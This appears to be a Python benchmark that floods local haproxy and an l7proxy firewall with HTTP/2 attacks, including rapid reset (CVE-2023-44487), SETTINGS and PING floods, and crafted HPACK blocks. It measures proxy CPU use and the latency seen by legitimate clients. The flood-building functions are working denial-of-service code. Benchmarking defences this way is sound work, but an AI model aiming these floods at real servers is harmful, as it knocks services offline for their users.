"""HTTP/2 floods, one attacking connection each, against haproxy and l7proxy in the same run.

    python -m bench.h2_floods [--scale S] [--legit N]

Issue 14, finding 5. nghttpd serves a small file; in front of it, haproxy (one
thread, h2c in and out) and ``l7proxy firewall``. For each proxy and each
attack, ``--legit`` h2 clients (8) fetch the file one GET after another on
their own connections, first for a second with nothing else going on (idle),
then while one connection floods. Reported per attack: the proxy's CPU seconds
from the first byte of the flood until the proxy has stopped working on it
(measured on a separate run of the same flood, without the legitimate clients),
the p50 and p99 latency of the legitimate GETs begun while the flood's
connection was open, their failures, and what the attacker read back (GOAWAY
and its error code, 11 being ENHANCE_YOUR_CALM).

The attacks, at ``--scale 1`` the sizes of the issue's table:

* rapid reset (CVE-2023-44487): 100,000 streams, each HEADERS then RST_STREAM;
* SETTINGS flood from a client that does not read: 100,000 SETTINGS frames;
* PING flood: 100,000 PINGs (the attacker reads the acknowledgements);
* HPACK near the limits: 2,000 requests, each a 1 KB header block of 1,000
  one-byte fields (about 60 KB decoded, under every header-list limit).

``--scale 0.02`` is a quick run that proves the script works.
"""

from __future__ import annotations

import argparse
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h2.events as ev
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hyperframe.frame import Frame, GoAwayFrame, HeadersFrame

from bench.common import CpuMeter, cpu_seconds, markdown_table, percentile, write_results
from bench.h2_tools import haproxy_h2c, l7proxy_firewall, nghttpd

LABELS = {"app": "bench-h2-floods"}
POLICY = """
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: {{name: bench-h2-floods}}
spec:
  endpointSelector: {{matchLabels: {{app: bench-h2-floods}}}}
  ingress:
    - toPorts:
        - ports: [{{port: "{port}", protocol: TCP}}]
          rules:
            http:
              - {{method: GET, path: "/public/.*"}}
"""
FILE = b"/public/small.txt"
REQUEST = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"bench"), (b":path", FILE)]


def client_h2() -> H2Connection:
    conn = H2Connection(H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    return conn


# --------------------------------------------------------------------------- legitimate clients


class Legitimate:
    """``n`` h2 connections, each fetching FILE one GET after another; latencies by phase."""

    def __init__(self, port: int, n: int) -> None:
        self.port = port
        self.phase = "idle"
        self.latencies: dict[str, list[float]] = {}
        self.failures: dict[str, int] = {}
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(n)]

    def start(self) -> None:
        for t in self._threads:
            t.start()

    def stop(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(15)

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=10) as sock:
                    conn = client_h2()
                    sock.sendall(conn.data_to_send())
                    while not self._stop.is_set():
                        phase, started = self.phase, time.monotonic()
                        self._get(sock, conn)
                        self.latencies.setdefault(phase, []).append(time.monotonic() - started)
            except Exception:  # noqa: BLE001 - counted, then a new connection
                self.failures[self.phase] = self.failures.get(self.phase, 0) + 1
                time.sleep(0.05)

    @staticmethod
    def _get(sock: socket.socket, conn: H2Connection) -> None:
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, REQUEST, end_stream=True)
        sock.sendall(conn.data_to_send())
        while True:
            data = sock.recv(65536)
            if not data:
                raise ConnectionError("closed")
            for event in conn.receive_data(data):
                if isinstance(event, ev.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, ev.StreamEnded) and event.stream_id == sid:
                    sock.sendall(conn.data_to_send())
                    return
                elif isinstance(event, (ev.StreamReset, ev.ConnectionTerminated)):
                    raise ConnectionError(str(event))
            sock.sendall(conn.data_to_send())


# --------------------------------------------------------------------------- attacks


# Each attack queues its frames on an h2 client object (after its preface) and
# returns whether the attacker reads while it sends.


def rapid_reset(conn: H2Connection, n: int) -> bool:
    for i in range(n):
        sid = 1 + 2 * i
        conn.send_headers(sid, REQUEST, end_stream=True)
        conn.reset_stream(sid, ErrorCodes.CANCEL)
    return True


def settings_flood(conn: H2Connection, n: int) -> bool:
    for i in range(n):
        conn.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 70_000 + i % 1000})
    return False  # reads nothing until it has sent everything


def ping_flood(conn: H2Connection, n: int) -> bool:
    for i in range(n):
        conn.ping(i.to_bytes(8, "big"))
    return True


def hpack_near_the_limits(conn: H2Connection, n: int) -> bool:
    # Raw HEADERS (h2 would not send them): :method GET, :scheme http, :path /,
    # :authority a (not indexed), then 1,000 references to the static entry
    # accept-encoding: gzip, deflate.
    block = b"\x82\x86\x84\x01\x01a" + b"\x90" * 1000
    flags = ["END_HEADERS", "END_STREAM"]
    raw = [HeadersFrame(1 + 2 * i, data=block, flags=flags) for i in range(n)]
    conn._prepare_for_sending(raw)  # h2's own queue, behind the preface
    return True


ATTACKS: dict[str, tuple[Callable[[H2Connection, int], bool], int]] = {
    "rapid reset": (rapid_reset, 100_000),
    "SETTINGS flood, not reading": (settings_flood, 100_000),
    "PING flood": (ping_flood, 100_000),
    "HPACK near the limits": (hpack_near_the_limits, 2_000),
}


class Attack:
    """One flooding connection: ``Attack(...)`` sends the flood (reading meanwhile
    if the attack does), ``finish()`` reads what is left and says what came back."""

    def __init__(self, port: int, build: Callable[[H2Connection, int], bool], n: int) -> None:
        conn = client_h2()
        reads = build(conn, n)
        wire = conn.data_to_send()
        self.sent = len(wire)
        self.received = bytearray()
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self._reader = threading.Thread(target=self._drain, daemon=True)
        if reads:
            self._reader.start()
        try:
            for at in range(0, len(wire), 1 << 16):
                self.sock.sendall(wire[at : at + (1 << 16)])
        except OSError:
            pass  # the proxy closed it, or stopped reading for 10 s
        if not reads:
            self._reader.start()

    def _drain(self) -> None:
        while True:
            try:
                data = self.sock.recv(1 << 16)
            except OSError:
                return
            if not data:
                return
            self.received.extend(data)

    def finish(self, wait: float = 2.0) -> dict[str, Any]:
        self._reader.join(wait)  # the proxy may still be closing it
        self.sock.close()
        self._reader.join(5)
        frames = complete_frames(bytes(self.received))
        goaways = [f for f in frames if isinstance(f, GoAwayFrame)]
        return {
            "sent_bytes": self.sent,
            "goaway": ErrorCodes(goaways[0].error_code).name if goaways else "none",
            "goaway_last_stream": goaways[0].last_stream_id if goaways else None,
        }


def complete_frames(wire: bytes) -> list[Frame]:
    frames, view = [], memoryview(wire)
    while len(view) >= 9:
        frame, length = Frame.parse_frame_header(view[:9])
        if len(view) < 9 + length:
            break
        frame.parse_body(view[9 : 9 + length])
        frames.append(frame)
        view = view[9 + length :]
    return frames


def settle(pid: int, quiet: float = 0.25, timeout: float = 120.0) -> float:
    """Wait until the process has spent (almost) no CPU for ``quiet`` seconds;
    returns when it went quiet (``time.monotonic()``)."""
    deadline = time.monotonic() + timeout
    last = cpu_seconds(pid)
    while time.monotonic() < deadline:
        since = time.monotonic()
        time.sleep(quiet)
        now = cpu_seconds(pid)
        if now - last <= 0.01:  # one clock tick
            return since
        last = now
    return time.monotonic()


# --------------------------------------------------------------------------- run


def run_proxy(name: str, port: int, pid: int, scale: float, legit_n: int) -> list[dict]:
    rows = []
    for attack_name, (build, full) in ATTACKS.items():
        n = max(1, int(full * scale))
        # The proxy's CPU for the flood alone, until it has stopped working on it.
        settle(pid)
        cpu = CpuMeter(pid)
        started = time.monotonic()
        flood = Attack(port, build, n)
        busy = settle(pid) - started
        spent = cpu.stop()
        outcome = flood.finish()
        # The same flood again, with legitimate clients before it and during the
        # time it kept the proxy busy alone (half a second at least).
        legit = Legitimate(port, legit_n)
        legit.start()
        time.sleep(1.0)
        legit.phase = "attack"
        started = time.monotonic()
        flood = Attack(port, build, n)
        time.sleep(max(0.0, started + max(busy, 0.5) - time.monotonic()))
        legit.phase = "after"
        flood.finish()
        legit.stop()
        idle = legit.latencies.get("idle", [])
        during = legit.latencies.get("attack", [])
        rows.append(
            {
                "proxy": name,
                "attack": attack_name,
                "frames": n,
                "proxy_cpu_s": spent,
                "proxy_busy_s": busy,
                "legit_idle_p99_ms": percentile(idle, 99) * 1000,
                "legit_p50_ms": percentile(during, 50) * 1000,
                "legit_p99_ms": percentile(during, 99) * 1000,
                "legit_gets": len(during),
                "legit_failed": legit.failures.get("attack", 0),
                **outcome,
            }
        )
        print(f"  {name:8} {attack_name:28} {rows[-1]}", file=sys.stderr)
    return rows


def run(scale: float = 1.0, legit_n: int = 8) -> dict:
    docroot = Path(tempfile.mkdtemp(prefix="bench-h2-floods-"))
    (docroot / "public").mkdir()
    (docroot / "public" / "small.txt").write_bytes(b"x" * 64)
    rows: list[dict] = []
    with nghttpd(docroot) as (server_port, _server_pid):
        with haproxy_h2c(server_port) as (port, pid):
            rows += run_proxy("haproxy", port, pid, scale, legit_n)
        with l7proxy_firewall(POLICY.format(port=server_port), server_port, LABELS) as (port, pid):
            rows += run_proxy("l7proxy", port, pid, scale, legit_n)
    return {"scale": scale, "legit_clients": legit_n, "rows": rows}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--scale", type=float, default=1.0, help="attack sizes (1: the issue's)")
    parser.add_argument("--legit", type=int, default=8, help="legitimate h2 clients")
    args = parser.parse_args(sys.argv[1:] if argv is None else argv)
    result = run(args.scale, args.legit)
    path = write_results("h2_floods", result)
    print(
        markdown_table(
            [
                "proxy",
                "attack",
                "frames",
                "proxy CPU s",
                "legit idle p99 ms",
                "legit p50 ms",
                "legit p99 ms",
                "failed",
                "GOAWAY",
            ],
            [
                [
                    r["proxy"],
                    r["attack"],
                    r["frames"],
                    r["proxy_cpu_s"],
                    r["legit_idle_p99_ms"],
                    r["legit_p50_ms"],
                    r["legit_p99_ms"],
                    r["legit_failed"],
                    r["goaway"],
                ]
                for r in result["rows"]
            ],
        )
    )
    print(f"results: {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
